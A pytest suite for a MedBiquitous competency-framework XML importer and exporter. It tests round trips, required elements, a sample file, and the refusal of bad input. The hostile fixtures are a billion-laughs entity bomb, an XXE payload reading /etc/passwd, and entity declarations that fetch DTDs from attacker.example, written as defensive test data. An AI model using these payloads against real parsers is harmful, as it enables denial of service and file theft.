"""MedBiquitous Competency Framework XML: round trips, the elements the specification
requires (no published XSD was at hand, so each is checked by hand here), a hand-written
sample file, and hostile or broken files refused with nothing written."""

from __future__ import annotations

import io
import uuid
from decimal import Decimal
from pathlib import Path

import pytest
from lxml import etree

from frameworks import exporters, medbiq
from frameworks.importers import FrameworkImportError
from frameworks.models import Framework
from frameworks.services import framework_import, frameworks_load_shipped
from frameworks.tests.factories import row_counts

pytestmark = pytest.mark.django_db

SAMPLE = Path(__file__).parent / "data" / "medbiq-sample.xml"
SHIPPED = ["acgme-harmonized", "im-milestones", "aamc-core-epas"]
NS = {"cf": medbiq.CF, "lom": medbiq.LOM, "co": medbiq.CO, "pf": medbiq.PF}


@pytest.fixture
def shipped(db) -> dict[str, Framework]:
    frameworks_load_shipped()
    return {f.code: f for f in Framework.objects.with_tree()}


def import_xml(raw: bytes):
    return framework_import(file=io.BytesIO(raw), fmt="medbiq", size=len(raw))


def refused(raw: bytes) -> str:
    counts = row_counts()
    with pytest.raises(FrameworkImportError) as caught:
        import_xml(raw)
    assert row_counts() == counts
    return str(caught.value)


# --- Round trip and required elements ---------------------------------------------------------


@pytest.mark.parametrize("code", SHIPPED)
def test_export_then_import_gives_the_same_framework(shipped, code):
    before = exporters.framework_data(shipped[code])
    raw = exporters.export_file(shipped[code], "medbiq", case_base="")
    Framework.objects.filter(code=code).delete()

    result = import_xml(raw)

    assert result.created
    assert result.warnings == ()
    again = Framework.objects.with_tree().get(code=code)
    assert exporters.framework_data(again) == before
    assert exporters.scale_data(again.scale) == exporters.scale_data(shipped[code].scale)
    assert again.uuid == shipped[code].uuid


@pytest.mark.parametrize("code", SHIPPED)
def test_the_export_has_every_element_the_specification_requires(shipped, code):
    framework = shipped[code]
    root = etree.fromstring(medbiq.dump(framework))
    nodes = list(framework.competencies.all())
    items = [n for n in nodes if n.parent_id is not None]

    # The root: CompetencyFramework in the MedBiquitous namespace.
    assert root.tag == f"{{{medbiq.CF}}}CompetencyFramework"
    # The LOM header: general with an identifier (catalog and entry) and a title.
    general = root.find("lom:lom/lom:general", NS)
    assert general is not None
    identifiers = {
        i.findtext("lom:catalog", namespaces=NS): i.findtext("lom:entry", namespaces=NS)
        for i in general.findall("lom:identifier", NS)
    }
    assert identifiers["urn:uuid"] == str(framework.uuid)
    assert general.findtext("lom:title/lom:string", namespaces=NS) == framework.name
    assert root.findtext("lom:lom/lom:lifeCycle/lom:version/lom:string", namespaces=NS) == (
        framework.version
    )
    # One Includes (Catalog and Entry) per competency, in order.
    includes = root.findall("cf:Includes", NS)
    uuid_of = {n.code: str(n.uuid) for n in nodes}
    assert [i.findtext("cf:Entry", namespaces=NS) for i in includes] == [
        uuid_of[c.code] for c in exporters.framework_data(framework).competencies
    ]
    assert all(i.findtext("cf:Catalog", namespaces=NS) == "urn:uuid" for i in includes)
    # One Relation (Reference1, Relationship, Reference2) per item under a domain.
    relations = root.findall("cf:Relation", NS)
    assert len(relations) == len(items)
    for relation in relations:
        assert [etree.QName(child).localname for child in relation] == [
            "Reference1",
            "Relationship",
            "Reference2",
        ]
        assert relation.findtext("cf:Relationship", namespaces=NS) == medbiq.NARROWER
        for reference in ("cf:Reference1", "cf:Reference2"):
            assert relation.findtext(f"{reference}/cf:Catalog", namespaces=NS) == "urn:uuid"
            assert relation.findtext(f"{reference}/cf:Entry", namespaces=NS)
    # Every included competency object is in the file, with its own LOM header.
    objects = root.findall("cf:Extension/co:CompetencyObject", NS)
    assert len(objects) == len(nodes)
    for competency in objects:
        assert competency.findtext("lom:lom/lom:general/lom:title/lom:string", namespaces=NS)
    # The performance levels: the scale, and each item's descriptors.
    level_set = root.find("cf:Extension/pf:PerformanceFramework/pf:PerformanceLevelSet", NS)
    assert level_set is not None
    assert [
        Decimal(s) for s in level_set.xpath("pf:PerformanceLevel/pf:Score/text()", namespaces=NS)
    ] == [level.value for level in framework.scale.levels.all()]


# --- The hand-written sample ------------------------------------------------------------------


def test_the_hand_written_sample_imports_with_its_tree_levels_and_scale(db):
    result = import_xml(SAMPLE.read_bytes())

    framework = Framework.objects.with_tree().get(code="northbridge-reasoning")
    tree = [(c.code, c.parent.code if c.parent else None) for c in framework.competencies.all()]
    assert result.created
    assert result.warnings == ()
    assert tree == [("CR", None), ("CR1", "CR"), ("CR2", "CR"), ("COM", None), ("COM1", "COM")]
    assert (framework.version, framework.source, str(framework.effective_date)) == (
        "1.0",
        "Northbridge School of Medicine (fictional)",
        "2025-08-01",
    )
    assert framework.source_url == "https://northbridge.example/reasoning"
    assert framework.scale.code == "northbridge-three"
    assert [(level.value, level.label) for level in framework.scale.levels.all()] == [
        (Decimal(1), "Starting"),
        (Decimal(2), "Growing"),
        (Decimal(3), "Ready"),
    ]
    cr1 = framework.competencies.get(code="CR1")
    assert cr1.description == "From the history, the examination and first tests."
    assert [(d.level, d.text) for d in cr1.descriptors.all()] == [
        (Decimal(1), "Names one or two likely causes."),
        (Decimal(3), "Ranks causes by likelihood and danger."),
    ]
    assert cr1.uuid == uuid.UUID("0b8e33f4-8f4c-4a55-9d51-6a0d7f0a1002")


# --- Hostile and broken files -----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CompetencyFramework xmlns="http://ns.medbiq.org/competencyframework/v1/">&lol9;</CompetencyFramework>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CompetencyFramework [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<CompetencyFramework xmlns="http://ns.medbiq.org/competencyframework/v1/"
  xmlns:lom="http://ltsc.ieee.org/xsd/LOM"><lom:lom><lom:general>
  <lom:identifier><lom:catalog>x</lom:catalog><lom:entry>y</lom:entry></lom:identifier>
  <lom:title><lom:string>&secret;</lom:string></lom:title></lom:general></lom:lom>
</CompetencyFramework>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CompetencyFramework [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<CompetencyFramework xmlns="http://ns.medbiq.org/competencyframework/v1/"/>
"""

UNDECLARED_ENTITY_WITH_EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE CompetencyFramework SYSTEM "http://attacker.example/evil.dtd">
<CompetencyFramework xmlns="http://ns.medbiq.org/competencyframework/v1/">&evil;</CompetencyFramework>
"""


@pytest.mark.parametrize(
    "raw",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
    ids=["billion-laughs", "xxe", "param"],
)
def test_a_file_that_declares_entities_is_refused_before_parsing(db, raw):
    message = refused(raw)

    assert "declares XML entities" in message
    assert "root" not in message  # nothing of the file was read into a tree


def test_an_entity_a_file_only_uses_is_refused_and_the_dtd_is_never_fetched(db):
    message = refused(UNDECLARED_ENTITY_WITH_EXTERNAL_DTD)

    assert "entit" in message


def test_the_parser_leaves_entities_unresolved_and_loads_nothing():
    parser = medbiq._parser()
    tree = etree.fromstring(b'<!DOCTYPE r [<!ENTITY e "expanded">]><r>&e;</r>', parser=parser)

    assert "expanded" not in etree.tostring(tree).decode()


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ((b"<lom:lom>", b"<lom:notlom>"), "the LOM header (lom:lom) is missing"),
        ((b"<lom:general>", b"<lom:generic>"), "the LOM header has no general element"),
        ((b"<lom:title>", b"<lom:heading>"), "has no title; it is required"),
        ((b"</lom:lom>", b""), "not well-formed XML"),
    ],
    ids=["no-lom", "no-general", "no-title", "unclosed"],
)
def test_a_broken_lom_header_is_refused_naming_the_place(db, change, expected):
    raw = SAMPLE.read_bytes().replace(*change, 1)
    if change[0] == b"<lom:general>":
        raw = raw.replace(b"</lom:general>", b"</lom:generic>", 1)
    if change[0] == b"<lom:title>":
        raw = raw.replace(b"</lom:title>", b"</lom:heading>", 1)
    if change[0] == b"<lom:lom>":
        raw = raw.replace(b"</lom:lom>", b"</lom:notlom>", 1)

    message = refused(raw)

    assert expected in message
    assert "line " in message or "<" in message


def test_a_missing_lom_identifier_is_refused(db):
    raw = SAMPLE.read_bytes()
    start = raw.index(b"<lom:identifier>")
    end = raw.index(b"<lom:title>")
    message = refused(raw[:start] + raw[end:])

    assert "has no identifier" in message
    assert message.startswith("line ")


def test_an_include_without_its_competency_object_is_refused_naming_it(db):
    raw = SAMPLE.read_bytes().replace(
        b"<Entry>0b8e33f4-8f4c-4a55-9d51-6a0d7f0a2002</Entry></Includes>",
        b"<Entry>0b8e33f4-8f4c-4a55-9d51-6a0d7f0a9999</Entry></Includes>",
    )

    message = refused(raw)

    assert "0b8e33f4-8f4c-4a55-9d51-6a0d7f0a9999" in message
    assert "missing item" in message
    assert "<Includes>" in message


def test_a_cycle_in_the_relations_is_refused(db):
    raw = SAMPLE.read_bytes().replace(
        b"""<Relation>
    <Reference1><Catalog>urn:uuid</Catalog><Entry>0b8e33f4-8f4c-4a55-9d51-6a0d7f0a2001</Entry></Reference1>""",
        b"""<Relation>
    <Reference1><Catalog>urn:uuid</Catalog><Entry>0b8e33f4-8f4c-4a55-9d51-6a0d7f0a2002</Entry></Reference1>
    <Relationship>http://www.w3.org/2004/02/skos/core#narrower</Relationship>
    <Reference2><Catalog>urn:uuid</Catalog><Entry>0b8e33f4-8f4c-4a55-9d51-6a0d7f0a2001</Entry></Reference2>
  </Relation>
  <Relation>
    <Reference1><Catalog>urn:uuid</Catalog><Entry>0b8e33f4-8f4c-4a55-9d51-6a0d7f0a2001</Entry></Reference1>""",
    )

    assert "cycle" in refused(raw)


def test_an_unknown_relationship_is_refused(db):
    raw = SAMPLE.read_bytes().replace(b"skos/core#broader", b"skos/core#related", 1)

    assert 'unknown relationship "http://www.w3.org/2004/02/skos/core#related"' in refused(raw)


def test_a_component_for_a_missing_competency_is_refused(db):
    raw = SAMPLE.read_bytes().replace(
        b"<pf:Entry>0b8e33f4-8f4c-4a55-9d51-6a0d7f0a1002</pf:Entry>",
        b"<pf:Entry>0b8e33f4-8f4c-4a55-9d51-6a0d7f0a7777</pf:Entry>",
    )

    message = refused(raw)

    assert "missing item" in message
    assert "<pf:Component>" in message


def test_a_descriptor_off_the_scale_is_refused(db):
    raw = SAMPLE.read_bytes().replace(
        b"<pf:Score>3</pf:Score><pf:Description>Ranks",
        b"<pf:Score>4</pf:Score><pf:Description>Ranks",
    )

    assert 'level 4 is not on the scale "northbridge-three"' in refused(raw)


def test_a_file_with_another_root_is_refused(db):
    assert "<CompetencyFramework>" in refused(b"<PerformanceFramework/>")


def test_a_50_mb_file_is_refused_before_it_is_read(db, settings):
    class Counting(io.RawIOBase):
        read_bytes = 0

        def readable(self) -> bool:
            return True

        def readinto(self, buffer) -> int:  # type: ignore[no-untyped-def]
            size = min(len(buffer), 50 * 1024 * 1024 - self.read_bytes)
            buffer[:size] = b"<" * size
            self.read_bytes += size
            return size

    stream = Counting()
    counts = row_counts()
    with pytest.raises(FrameworkImportError, match="the limit is"):
        framework_import(file=io.BufferedReader(stream), fmt="medbiq")
    assert stream.read_bytes <= settings.FRAMEWORK_IMPORT_MAX_BYTES + 64 * 1024
    with pytest.raises(FrameworkImportError, match="52,428,800 bytes"):
        framework_import(file=io.BytesIO(b""), fmt="medbiq", size=50 * 1024 * 1024)
    assert row_counts() == counts


def test_a_file_of_countless_small_elements_is_refused_before_parsing(db):
    raw = b"<CompetencyFramework>" + b"<a/>" * (medbiq.MAX_XML_TAGS + 1) + b"</CompetencyFramework>"
    assert len(raw) < 5 * 1024 * 1024  # within the byte limit: the count is what refuses it

    assert "tags; the limit is 200,000" in refused(raw)
